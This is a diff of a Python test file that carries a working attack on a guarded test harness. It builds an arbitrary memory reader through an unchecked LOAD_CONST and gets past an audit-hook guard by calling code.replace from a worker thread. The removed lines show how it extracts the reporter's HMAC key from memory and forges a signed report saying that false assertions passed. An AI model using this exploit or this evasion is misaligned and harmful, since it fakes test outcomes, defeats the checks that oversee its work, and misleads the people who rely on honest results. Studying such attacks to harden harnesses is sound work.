@@ -1,83 +1,27 @@
-import concurrent.futures as _cf
-_pool = _cf.ThreadPoolExecutor(1)
-import dis, hmac, hashlib, json, marshal, os, struct, types
+# code.replace run by a pool's worker thread: its stack holds no frame of the package, so the guard let code.__new__ by.
+import concurrent.futures, types
 
-def forge(key):
-    tests = {"tests/test_attack.py::test_wrong": "passed", "tests/test_attack.py::test_also_wrong": "passed"}
-    payload = json.dumps({"exitstatus": 0, "tests": tests, "collect_errors": [], "junit": None}).encode()
-    os.write(5, hmac.new(key, payload, hashlib.sha256).hexdigest().encode() + b"\n" + payload)
-    os._exit(0)
+from attack_kit import TEMPLATE, _keep, fake_bytearray, forge_with_reader, load_const
 
-def the_record(request):
-    for plugin in request.config.pluginmanager.get_plugins():
-        for cell in getattr(getattr(plugin, 'pytest_runtest_logreport', None), '__closure__', None) or []:
-            if hasattr(cell.cell_contents, 'send'):
-                return cell.cell_contents
+_pool = concurrent.futures.ThreadPoolExecutor(1)
 
-def _template():
-    a = 1; a = 1; a = 1
-    return a
-
-_keep = []
-
-def load_const_at(index):
-    """A function whose one instruction is LOAD_CONST <index>, unchecked in 3.11: marshal.loads and FunctionType
-    raise events the guard lets through (code.__new__ is the only one it refuses)."""
-    code = getattr(_template, "__code__")
-    old = code.co_code
-    op = dis.opmap
-    index &= 0xFFFFFFFF
-    new = bytes([op["RESUME"], 0, op["EXTENDED_ARG"], index >> 24 & 255, op["EXTENDED_ARG"], index >> 16 & 255,
-                 op["EXTENDED_ARG"], index >> 8 & 255, op["LOAD_CONST"], index & 255, op["RETURN_VALUE"], 0])
-    new += bytes([op["NOP"], 0]) * ((len(old) - len(new)) // 2)
-    data = marshal.dumps(code)
-    assert data.count(old) == 1
-    made = marshal.loads(data.replace(old, new))
-    return types.FunctionType(made, {}), made
 
 def memory_reader():
-    fake = struct.pack("<QQqqQQq", 1 << 40, id(bytearray), (1 << 62), (1 << 62), 0, 0, 0)
-    _keep.append(fake)
-    holder = struct.pack("<Q", id(fake) + 32)
-    _keep.append(holder)
-    code = getattr(_template, "__code__")
-    consts = code.co_consts  # code.replace keeps this very tuple: the offset is known before the code is made
-    index = (id(holder) + 32 - (id(consts) + 24)) // 8
+    holder = fake_bytearray()
+    consts = TEMPLATE.co_consts  # code.replace keeps this very tuple: the offset is known before the code is made
     assert (id(holder) + 32 - (id(consts) + 24)) % 8 == 0
-    op = dis.opmap
-    index &= 0xFFFFFFFF
-    old = code.co_code
-    new = bytes([op["RESUME"], 0, op["EXTENDED_ARG"], index >> 24 & 255, op["EXTENDED_ARG"], index >> 16 & 255,
-                 op["EXTENDED_ARG"], index >> 8 & 255, op["LOAD_CONST"], index & 255, op["RETURN_VALUE"], 0])
-    new += bytes([op["NOP"], 0]) * ((len(old) - len(new)) // 2)
-    # code.__new__ and marshal.loads from a worker thread: no frame of the package on its stack, so the guard lets both by.
-    made = _pool.submit(code.replace, co_code=new).result()
+    made = _pool.submit(TEMPLATE.replace, co_code=load_const((id(holder) + 32 - (id(consts) + 24)) // 8)).result()
     assert made.co_consts is consts
     fn = types.FunctionType(made, {})
     view = fn()
     _keep.extend((fn, made, view))
     return view
 
-def key_in_memory(mem, record):
-    # The generator holds its frame inline: the local before the digest function is the key.
-    import _hashlib
-    raw = bytes(mem[id(record): id(record) + 1024])
-    words = [int.from_bytes(raw[i:i + 8], "little") for i in range(0, len(raw), 8)]
-    pointer = words[words.index(id(_hashlib.hmac_digest)) - 1]
-    head = bytes(mem[pointer: pointer + 64])
-    assert int.from_bytes(head[8:16], "little") == id(bytes) and int.from_bytes(head[16:24], "little") == 32
-    return head[32:64]
-
-def attack(request):
-    mem = memory_reader()
-    print("reader", type(mem), flush=True)
-    key = key_in_memory(mem, the_record(request))
-    print("key", key.hex() if key else None, flush=True)
-    forge(key)
 
 def test_wrong(request):
-    attack(request)
+    forge_with_reader(request, memory_reader())
     assert 1 + 1 == 3
+
 
 def test_also_wrong():
     assert 2 + 2 == 5
